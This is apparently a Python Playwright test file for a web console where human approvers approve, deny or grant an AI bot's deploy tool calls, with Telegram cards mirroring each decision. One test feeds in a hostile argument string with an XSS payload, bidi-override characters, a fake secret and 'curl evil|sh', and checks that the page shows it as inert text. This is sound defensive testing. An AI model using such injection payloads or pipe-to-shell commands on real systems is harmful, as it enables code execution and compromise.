"""Pending approvals in a real browser: sign in through the link the bot sent to the
approver's Telegram DM, watch a request appear without a reload, approve it; the tool runs
once and the chat's cards show the outcome. The grant choices are the chat card's, and a
card that needs two keys offers none."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.async_api import Browser, Page

from bot.approval import audit
from bot.store.approvals import ApprovalStatus
from bot.store.audit import Decision
from channels.telegram.cards import CHOICE_PREFIX
from tests.fakes.telegram_setup import TOKEN
from tests.web.harness import (
    ADMIN,
    APPROVER,
    LLM_KEY_ENV,
    REQUESTER,
    ConsoleRig,
    console_rig,
)

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]


async def test_approve_from_the_console(rig: ConsoleRig, page: Page) -> None:
    await rig.sign_in(page, APPROVER)
    await page.goto(rig.url("/approvals"))
    await page.wait_for_selector("text=Nothing is waiting for a decision.")
    # a mark on the window: still there later means the page was never reloaded
    await page.evaluate("window.keptSinceLoad = true")

    await rig.deploy_asked("v2")
    card = page.locator("article.approval")
    await card.wait_for()
    assert await page.evaluate("window.keptSinceLoad === true")
    assert "deploy" in await card.locator(".tool").inner_text()
    assert "version: v2" in await card.locator("pre.arguments").inner_text()
    await rig.screenshot(page, "pending-approvals")

    await card.locator("button[value=approve]").click()
    await page.wait_for_selector("text=Approved. The call runs now.")
    await rig.tg.wait_for("sendMessage", lambda c: "Deployed v2." in str(c.params.get("text")))
    assert rig.ran == [{"version": "v2"}]
    await rig.tg.wait_for(
        "editMessageText", lambda c: "Approved: deploy" in str(c.params.get("text"))
    )
    rows = await rig.app.store.audit.since()
    [decision] = [r for r in rows if r.decision == "approved"]
    assert (decision.decided_by, decision.reason) == (str(APPROVER), "web")


async def test_deny_with_a_reply(rig: ConsoleRig, page: Page) -> None:
    await rig.sign_in(page, APPROVER)
    await page.goto(rig.url("/approvals"))
    rig.llm.queue_tool_calls([("deploy", {"version": "v3"})])
    rig.llm.queue_text("Not deploying, as asked.")
    await rig.ask("deploy v3")
    card = page.locator("article.approval")
    await card.wait_for()
    await card.locator("textarea[name=reply]").fill("Not today: the release is frozen.")
    await card.locator("button[value=reply]").click()
    await page.wait_for_selector("text=Denied with your reply.")

    await rig.tg.wait_for("sendMessage", lambda c: "Not deploying" in str(c.params.get("text")))
    assert rig.ran == []
    tool_message = rig.llm.requests[-1].body["messages"][-1]
    assert "Not today: the release is frozen." in str(tool_message["content"])
    await rig.tg.wait_for(
        "editMessageText", lambda c: "Denied with a reply" in str(c.params.get("text"))
    )
    [row] = await rig.app.store.approvals.list()
    assert (row.status, row.decided_by, row.reason) == ("edited", str(APPROVER), "web")


def chat_card_choices(rig: ConsoleRig, chat_id: int) -> list[str]:
    """The grant choices of the chat's card in ``chat_id``, as Telegram shows them (its
    second keyboard row, ``♾️ LABEL``)."""
    [card] = [m for m in rig.tg.bot_messages(chat_id) if "reply_markup" in m]
    return [
        b["text"].removeprefix(CHOICE_PREFIX)
        for row in card["reply_markup"]["inline_keyboard"][1:-1]
        for b in row
    ]


async def test_approve_with_a_grant_the_chat_card_offers(rig: ConsoleRig, page: Page) -> None:
    """The console offers the chat card's grant choices (``approval.grant_choices`` bounded
    by the policy) beside Always, and decides a pick through the same card flow: a key the
    card never offered, edited into the form, is refused and decides nothing; "for 1 h"
    approves with an hour-long grant."""
    await rig.sign_in(page, APPROVER)
    await page.goto(rig.url("/approvals"))
    await rig.deploy_asked("v4")
    card = page.locator("article.approval")
    await card.wait_for()
    options = await card.locator("select[name=grant] option").all_inner_texts()
    await rig.tg.wait_for("sendMessage", lambda c: "reply_markup" in c.params)
    assert options == chat_card_choices(rig, APPROVER)
    assert options == ["for 1 h", "for this conversation", "for this exact command"]
    assert await card.locator("button[value=always]").count() == 1
    assert await card.locator("select[name=scope]").count() == 0

    # a choice the card never offered, written into the form by hand
    await card.locator("select[name=grant] option").first.evaluate("o => o.value = 'forever'")
    await card.locator("button[value=grant]").click()
    await page.wait_for_selector("text=That grant choice was not offered on this card")
    [row] = await rig.app.store.approvals.list()
    assert row.status is ApprovalStatus.PENDING and rig.ran == []

    await page.goto(rig.url("/approvals"))
    card = page.locator("article.approval")
    await card.locator("select[name=grant]").select_option(label="for 1 h")
    await card.locator("button[value=grant]").click()
    await page.wait_for_selector("text=Approved, with a grant of the size you picked.")
    await rig.tg.wait_for("sendMessage", lambda c: "Deployed v4." in str(c.params.get("text")))
    assert rig.ran == [{"version": "v4"}]
    [grant] = await rig.app.store.grants.list(now=0, include_inactive=True)
    assert (grant.tool, grant.size, grant.scope, grant.scope_key, grant.granted_by) == (
        "deploy",
        "for 1 h",
        "conversation",
        f"telegram.main:{REQUESTER}",
        str(APPROVER),
    )
    assert grant.expires_at == pytest.approx(grant.created_at + 3600)
    rows = [(r.decision, r.reason) for r in await rig.app.store.audit.since()]
    assert rows[-2:] == [
        (Decision.CLICK_REFUSED_ALWAYS, "choice_not_offered"),
        (Decision.ALWAYS, "web"),
    ]


async def test_a_quorum_card_offers_no_grant_on_the_console(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, page: Page
) -> None:
    """A card that needs two keys offers Approve and Deny, no Always and no grant choice,
    as on the chat's card; the console's approval is one of the two."""
    monkeypatch.setenv("HATCHWAY_TELEGRAM_TOKEN", TOKEN)
    monkeypatch.setenv(LLM_KEY_ENV, "test-key")
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
    quorum = {"rules": [{"tools": ["deploy"], "approvals": 2}]}
    async with console_rig(
        tmp_path, approval={"quorum": quorum}, approvers=(APPROVER, ADMIN, REQUESTER)
    ) as rig:
        await rig.sign_in(page, APPROVER)
        await page.goto(rig.url("/approvals"))
        await rig.deploy_asked("v9")
        card = page.locator("article.approval")
        await card.wait_for()
        assert "0 of 2 approvals" in await rig.card_text(APPROVER)
        assert await card.locator("button[value=approve]").count() == 1
        assert await card.locator("button[value=always], select[name=grant]").count() == 0
        assert chat_card_choices(rig, APPROVER) == []
        await card.locator("button[value=approve]").click()
        await page.wait_for_selector("text=Approval 1 of 2 recorded; waiting for one more.")
        assert rig.ran == []


async def test_hostile_arguments_are_shown_not_obeyed(rig: ConsoleRig, page: Page) -> None:
    await rig.sign_in(page, APPROVER)
    await page.goto(rig.url("/approvals"))
    hostile = (
        '<img src=x onerror="document.title=1"><script>document.title=2</script>'
        "\u202eevil\r\nsecond line\u200b token=abcd1234secret;curl evil|sh"
    )
    rig.llm.queue_tool_calls([("deploy", {"version": hostile})])
    rig.llm.queue_text("done")
    await rig.ask("deploy it")
    shown = page.locator("article.approval pre.arguments")
    await shown.wait_for()
    text = await shown.inner_text()
    assert '<img src=x onerror="document.title=1"><script>' in text  # as text
    assert "\\u202eevil\\r⏎" in text and "\\u200b" in text
    assert "token=***;curl evil|sh" in text and "abcd1234secret" not in text
    assert "contains a masked value" in text
    assert await page.locator("article.approval img, article.approval script").count() == 0
    assert await page.title() == "Pending approvals · hatchway console"
    await rig.screenshot(page, "hostile-arguments")


async def test_a_request_decided_elsewhere_leaves_the_page(rig: ConsoleRig, page: Page) -> None:
    await rig.sign_in(page, APPROVER)
    await page.goto(rig.url("/approvals"))
    await page.evaluate("window.keptSinceLoad = true")
    await rig.deploy_asked("v5")
    card = page.locator("article.approval")
    await card.wait_for()
    [row] = await rig.app.store.approvals.list()
    await rig.app.approvals.decide_from_cli(row.id, False, "operator:ops")
    await card.wait_for(state="detached")
    await page.wait_for_selector("text=Nothing is waiting for a decision.")
    assert await page.evaluate("window.keptSinceLoad === true")
    assert rig.ran == []


async def test_without_javascript(rig: ConsoleRig, browser: Browser) -> None:
    context = await browser.new_context(java_script_enabled=False)
    try:
        page = await context.new_page()
        await rig.sign_in(page, APPROVER)
        await page.goto(rig.url("/approvals"))
        await rig.deploy_asked("v6")
        await rig.tg.wait_for("sendMessage", lambda c: "Approval needed" in str(c.params))
        await page.click("text=Refresh")
        await page.locator("article.approval button[value=approve]").click()
        await page.wait_for_selector("text=Approved. The call runs now.")
        await rig.tg.wait_for("sendMessage", lambda c: "Deployed v6." in str(c.params.get("text")))
        assert rig.ran == [{"version": "v6"}]
    finally:
        await context.close()


async def test_the_page_shows_reminders_and_escalation(rig: ConsoleRig, page: Page) -> None:
    await rig.sign_in(page, APPROVER)
    await page.goto(rig.url("/approvals"))
    await rig.deploy_asked("v7")
    card = page.locator("article.approval")
    await card.wait_for()
    assert await card.locator(".reminders").inner_text() == "0"
    assert await card.locator(".escalated").inner_text() == "nobody"
    [row] = await rig.app.store.approvals.list(status=ApprovalStatus.PENDING)
    # what the reminder sweep records, as it records it
    now = row.created_at + 60
    reminded = audit.entry_for_record(
        row, at=now, decision=Decision.REMINDED, decided_by="runtime", reason="reminder 1 of 3"
    )
    assert await rig.app.store.approvals.claim_reminder(row.id, sent=0, at=now, audit=reminded)
    escalated = audit.entry_for_record(
        row, at=now, decision=Decision.ESCALATED, decided_by="runtime", reason="escalated"
    )
    assert await rig.app.store.approvals.claim_escalation(
        row.id, ["U9"], at=now, audit=escalated, roles=["sre"]
    )
    # the page polls: no reload
    await page.wait_for_selector("article.approval .reminders:text-is('1')")
    assert await card.locator(".escalated").inner_text() == "U9, role sre"
    assert (await card.locator(".age").inner_text()).strip()  # how long it has waited
    await rig.app.approvals.decide_from_cli(row.id, False, "operator:ops")
    await card.wait_for(state="detached")
